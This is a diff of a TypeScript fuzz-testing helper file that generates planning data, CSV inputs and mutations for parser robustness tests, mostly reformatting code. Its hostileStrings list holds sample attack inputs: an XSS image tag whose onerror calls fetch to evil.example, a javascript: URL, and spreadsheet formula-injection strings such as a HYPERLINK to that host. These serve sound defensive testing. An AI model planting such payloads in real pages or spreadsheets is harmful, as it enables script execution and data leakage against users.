@@ -70,10 +70,7 @@ export const unknownFields: fc.Arbitrary<Record<string, unknown>> = fc.dictionar
 
 /** The shape of a generated plan: per sub-goal its areas' activity counts, or the count of its activities without areas. */
 const shapes = fc.array(
-  fc.oneof(
-    fc.array(fc.integer({ min: 1, max: 3 }), { minLength: 1, maxLength: 2 }),
-    fc.integer({ min: 1, max: 3 }),
-  ),
+  fc.oneof(fc.array(fc.integer({ min: 1, max: 3 }), { minLength: 1, maxLength: 2 }), fc.integer({ min: 1, max: 3 })),
   { minLength: 1, maxLength: 3 },
 );
 
@@ -111,7 +108,18 @@ export function regionalPlans({ withoutAreas = true }: { withoutAreas?: boolean 
         if (typeof areas === "number")
           return withoutAreas
             ? { ...base, activities: Array.from({ length: areas }, next) }
-            : { ...base, areas: [{ kind: "collaboration_area" as const, id: `${code.toLowerCase()}-0`, title: `Område ${code}0`, localTips: [], activities: Array.from({ length: areas }, next) }] };
+            : {
+                ...base,
+                areas: [
+                  {
+                    kind: "collaboration_area" as const,
+                    id: `${code.toLowerCase()}-0`,
+                    title: `Område ${code}0`,
+                    localTips: [],
+                    activities: Array.from({ length: areas }, next),
+                  },
+                ],
+              };
         return {
           ...base,
           areas: areas.map((count, a) => ({
@@ -294,15 +302,15 @@ export function csvFileOf(
 ): { input: string | Uint8Array; options: { delimiter: ";" | ","; encoding?: "windows-1252" } } {
   const { delimiter, lang, encoding, bom } = dialect;
   const rows = observations.map((o) => {
-    const valueOf = (sex: string) => {
+    const cellOf = (sex: string) => {
       const found = o.bySex?.cells.find((c) => c.sex === sex);
       return found !== undefined && "value" in found ? found.value : "";
     };
-    const [women, men] = [valueOf("female"), valueOf("male")];
+    const [women, men] = [cellOf("female"), cellOf("male")];
     const cells = [o.indicator, o.activity ?? "", String(o.year), o.value ?? "", women, men, o.comment ?? ""];
     return cells.map((c) => cell(String(c), delimiter)).join(delimiter);
   });
-  const text = [CSV_HEADERS[lang].join(delimiter), ...rows].join("\r\n") + "\r\n";
+  const text = `${[CSV_HEADERS[lang].join(delimiter), ...rows].join("\r\n")}\r\n`;
   if (encoding === "windows-1252") return { input: windows1252(text), options: { delimiter, encoding } };
   return { input: bom ? `\uFEFF${text}` : text, options: { delimiter } };
 }
@@ -361,7 +369,7 @@ export const hostileStrings: fc.Arbitrary<string> = fc.oneof(
     '<img src=x onerror="fetch(`//evil.example`)">',
     "https://evil.example/x.png",
     "javascript:alert(1)",
-    "=HYPERLINK(\"http://evil.example\")",
+    '=HYPERLINK("http://evil.example")',
     " =1+1",
     "\n=1+1",
     "＝1+1",
@@ -401,7 +409,10 @@ export const anything: fc.Arbitrary<unknown> = fc.anything({
   withSparseArray: true,
 });
 
-/** Options of the wrong kind: not an object, a language not spoken, limits that are not positive whole numbers. */
+/**
+ * Options of the wrong kind: not an object, a language not spoken, limits that are not positive whole numbers.
+ * Never a `plan` or `reference` of the wrong kind: the readers trust those (docs/robustness.md).
+ */
 export const wrongOptions: fc.Arbitrary<unknown> = fc.oneof(
   fc.constantFrom(undefined, null, 0, "sv", [], () => 1),
   fc.record(
@@ -412,7 +423,6 @@ export const wrongOptions: fc.Arbitrary<unknown> = fc.oneof(
       maxKeyLength: fc.constantFrom(Number.NaN, 0, 2, 1000, {}),
       encoding: fc.constantFrom("utf-8", "windows-1252", "latin1", 7),
       delimiter: fc.constantFrom(";", ",", "\t", "|", ""),
-      plan: fc.constantFrom(undefined, null, "plan", {}),
       indicators: fc.constantFrom(undefined, null, {}, { N07908: "F.1-1" }, { N07908: "ÖÖ" }, []),
     },
     { requiredKeys: [] },
@@ -434,14 +444,14 @@ export function mutateText(text: string): fc.Arbitrary<string> {
   return fc.oneof(
     fc.tuple(at, fc.nat(40)).map(([i, n]) => text.slice(0, i) + text.slice(i + n)),
     fc.tuple(at, insert).map(([i, s]) => text.slice(0, i) + s + text.slice(i)),
-    fc.tuple(at, fc.nat(200), fc.integer({ min: 2, max: 4 })).map(([i, n, k]) => text.slice(0, i) + text.slice(i, i + n).repeat(k) + text.slice(i + n)),
     fc
-      .tuple(fc.nat(), fc.constantFrom("1e400", "-0", "5e-324", "1e308", '"12"', "null", "true", "[]", "{}"))
-      .map(([k, value]) => {
-        const numbers = [...text.matchAll(/-?\d+(\.\d+)?/g)];
-        const m = numbers[k % Math.max(numbers.length, 1)];
-        return m === undefined ? text : text.slice(0, m.index) + value + text.slice(m.index + m[0].length);
-      }),
+      .tuple(at, fc.nat(200), fc.integer({ min: 2, max: 4 }))
+      .map(([i, n, k]) => text.slice(0, i) + text.slice(i, i + n).repeat(k) + text.slice(i + n)),
+    fc.tuple(fc.nat(), fc.constantFrom("1e400", "-0", "5e-324", "1e308", '"12"', "null", "true", "[]", "{}")).map(([k, value]) => {
+      const numbers = [...text.matchAll(/-?\d+(\.\d+)?/g)];
+      const m = numbers[k % Math.max(numbers.length, 1)];
+      return m === undefined ? text : text.slice(0, m.index) + value + text.slice(m.index + m[0].length);
+    }),
   );
 }
 
@@ -450,26 +460,28 @@ export function mutateText(text: string): fc.Arbitrary<string> {
  * by default), added under a hostile key, or emptied.
  */
 export function mutateValue(value: unknown, junk: fc.Arbitrary<unknown> = anything): fc.Arbitrary<unknown> {
-  return fc.tuple(fc.array(fc.nat(), { maxLength: 8 }), fc.nat(3), junk, fc.constantFrom(...HOSTILE_KEYS, "x")).map(([steps, op, replacement, key]) => {
-    const copy = structuredClone(value);
-    let parent: unknown = copy;
-    let field: string | number | undefined;
-    for (const step of steps) {
-      const holder: unknown = field === undefined ? parent : (parent as Record<string | number, unknown>)[field];
-      if (holder === null || typeof holder !== "object") break;
-      const keys = Array.isArray(holder) ? holder.map((_, i) => i) : Object.keys(holder);
-      if (keys.length === 0) break;
-      if (field !== undefined) parent = holder;
-      field = keys[step % keys.length];
-    }
-    if (field === undefined || parent === null || typeof parent !== "object") return replacement;
-    const holder = parent as Record<string | number, unknown>;
-    if (op === 0 && Array.isArray(holder)) holder.splice(field as number, 1);
-    else if (op === 0) delete holder[field];
-    else if (op === 1) holder[field] = replacement;
-    else if (op === 2 && Array.isArray(holder)) holder.push(replacement);
-    else if (op === 2) Object.defineProperty(holder, key, { value: replacement, enumerable: true, configurable: true, writable: true });
-    else holder[field] = Array.isArray(holder[field]) ? [] : "";
-    return copy;
-  });
+  return fc
+    .tuple(fc.array(fc.nat(), { maxLength: 8 }), fc.nat(3), junk, fc.constantFrom(...HOSTILE_KEYS, "x"))
+    .map(([steps, op, replacement, key]) => {
+      const copy = structuredClone(value);
+      let parent: unknown = copy;
+      let field: string | number | undefined;
+      for (const step of steps) {
+        const holder: unknown = field === undefined ? parent : (parent as Record<string | number, unknown>)[field];
+        if (holder === null || typeof holder !== "object") break;
+        const keys = Array.isArray(holder) ? holder.map((_, i) => i) : Object.keys(holder);
+        if (keys.length === 0) break;
+        if (field !== undefined) parent = holder;
+        field = keys[step % keys.length];
+      }
+      if (field === undefined || parent === null || typeof parent !== "object") return replacement;
+      const holder = parent as Record<string | number, unknown>;
+      if (op === 0 && Array.isArray(holder)) holder.splice(field as number, 1);
+      else if (op === 0) delete holder[field];
+      else if (op === 1) holder[field] = replacement;
+      else if (op === 2 && Array.isArray(holder)) holder.push(replacement);
+      else if (op === 2) Object.defineProperty(holder, key, { value: replacement, enumerable: true, configurable: true, writable: true });
+      else holder[field] = Array.isArray(holder[field]) ? [] : "";
+      return copy;
+    });
 }
